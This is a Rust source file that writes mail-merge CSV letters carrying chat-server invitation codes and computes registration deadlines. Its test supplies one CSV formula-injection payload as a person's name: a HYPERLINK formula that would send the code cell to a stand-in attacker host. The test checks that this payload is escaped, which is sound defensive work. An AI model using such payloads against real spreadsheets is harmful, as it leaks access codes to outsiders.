//! Letters for people who have no account yet: a file for a mail merge, a line each.

use std::io;
use std::path::Path;

use jiff::Timestamp as Moment;
use jiff::tz::TimeZone;
use lodge_core::name::{Address, DisplayName};
use lodge_core::time::{Span, Timestamp};
use url::Url;

use super::Invited;
use super::shown::last_day;
use crate::cells::Cells;
use lodge_plumbing::files::write_private;

/// The parts that every letter shares.
pub(super) struct Letterhead<'a> {
    /// The page on which people register, or log in.
    pub(super) link: &'a Url,
    /// The account that they give the code to.
    pub(super) porter: &'a Address,
    /// The name that clients show for that account.
    pub(super) porter_name: &'a DisplayName,
    /// The zone in which dates are told.
    pub(super) zone: &'a TimeZone,
}

/// A letter to one person.
pub(super) struct Letter<'a> {
    /// The person whom it is for.
    pub(super) invited: &'a Invited,
    /// The moment from which their token is taken no more, if they have one.
    pub(super) register_by: Option<Timestamp>,
}

/// The letters' columns.
const COLUMNS: [&str; 7] = ["name", "email", "link", "code", "porter", "porter_link", "register_by"];

/// Writes the letters to a new file that only its owner can read: the codes in it are worth somebody's role.
pub(super) fn write(path: &Path, head: &Letterhead<'_>, letters: &[Letter<'_>]) -> io::Result<()> {
    let mut sheet = Cells::with_columns(&COLUMNS);
    let porter = format!("{} ({})", head.porter_name, head.porter);
    let porter_link = format!("https://matrix.to/#/{}", head.porter);
    for Letter { invited, register_by } in letters {
        let mail = invited.entry.mail.as_ref().map(ToString::to_string).unwrap_or_default();
        let by = register_by.map(|by| last_day(by, head.zone)).unwrap_or_default();
        let (name, code) = (invited.entry.name.as_str(), invited.code.to_string());
        sheet.line(&[name, &mail, head.link.as_str(), &code, &porter, &porter_link, &by]);
    }
    write_private(path, &sheet.into_bytes())
}

/// The moment from which a token that is made now is taken no more: at the end of a day, and never after the role.
pub(super) fn register_by(now: Timestamp, within: Span, role_ends: Option<Timestamp>, zone: &TimeZone) -> Timestamp {
    let by = now.after(within);
    let midnight = Moment::from_millisecond(by.as_millis())
        .and_then(|by| by.to_zoned(zone.clone()).date().tomorrow()?.to_zoned(zone.clone()))
        .map_or(by, |midnight| Timestamp::from_millis(midnight.timestamp().as_millisecond()));
    role_ends.map_or(midnight, |ends| ends.min(midnight))
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use lodge_core::mark::MarkKey;
    use lodge_core::people::member::Role;
    use lodge_core::people::roster::{Code, Entry, MailAddress};

    use super::*;
    use crate::cells::is_formula;

    #[test]
    fn a_letter_to_somebody_who_was_listed_with_a_formula_for_a_name_computes_nothing() {
        let name = "=HYPERLINK(\"http://evil.example/?c=\"&D2,\"Your letter\")";
        let entry = Entry {
            mail: Some(MailAddress::parse("+sam@mail.example").unwrap()),
            address: None,
            name: DisplayName::parse(name).unwrap(),
            role: Role::Student,
            cohort: None,
            details: BTreeMap::new(),
            until: None,
        };
        let invited = Invited {
            entry,
            code: Code::of(&MailAddress::parse("sam@mail.example").unwrap(), &MarkKey::from_bytes([1; 32])),
        };
        let directory = tempfile::tempdir().unwrap();
        let path = directory.path().join("letters.csv");
        let head = Letterhead {
            link: &Url::parse("https://chat.example.org/").unwrap(),
            porter: &Address::exact("@porter:example.org").unwrap(),
            porter_name: &DisplayName::parse("The porter").unwrap(),
            zone: &TimeZone::UTC,
        };
        write(&path, &head, &[Letter { invited: &invited, register_by: None }]).unwrap();
        let mut sheet = csv::ReaderBuilder::new().has_headers(false).from_path(&path).unwrap();
        let lines: Vec<csv::StringRecord> = sheet.records().collect::<Result<_, _>>().unwrap();
        assert_eq!(lines.len(), 2);
        assert!(lines.iter().flatten().all(|cell| !is_formula(cell)), "{lines:?}");
        assert_eq!(&lines[1][0], &format!("'{name}"));
        assert_eq!(&lines[1][4], "The porter (@porter:example.org)");
    }
}
